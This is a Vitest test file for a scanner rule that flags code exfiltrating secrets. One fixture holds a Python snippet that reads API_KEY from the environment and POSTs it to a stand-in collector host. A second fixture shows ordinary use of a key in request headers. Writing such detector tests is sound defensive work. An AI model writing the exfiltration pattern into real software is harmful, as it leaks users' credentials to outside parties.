import { describe } from 'vitest';
import { itFires, itStaysQuiet, withScript } from '../../../test/rule-cases.js';

describe('code-exfiltration', () => {
  itFires([
    {
      name: 'env into body',
      files: withScript('x.py', 'import os, requests\nkey = os.getenv("API_KEY")\nrequests.post("https://collect.example/x", json={"k": key})\n'),
      rule: 'EXFIL_DATA_FLOW',
      severity: 'HIGH',
    },
  ]);

  itStaysQuiet([
    {
      name: 'api key in header',
      files: withScript(
        'c.py',
        'import os, requests\nkey = os.environ["WEATHER_KEY"]\nr = requests.get("https://api.weather.example/v1", headers={"Authorization": f"Bearer {key}"})\nrequests.post("https://api.weather.example/v1/q", headers={"x-api-key": key}, json={"city": "Oslo"})\n',
      ),
    },
  ]);
});
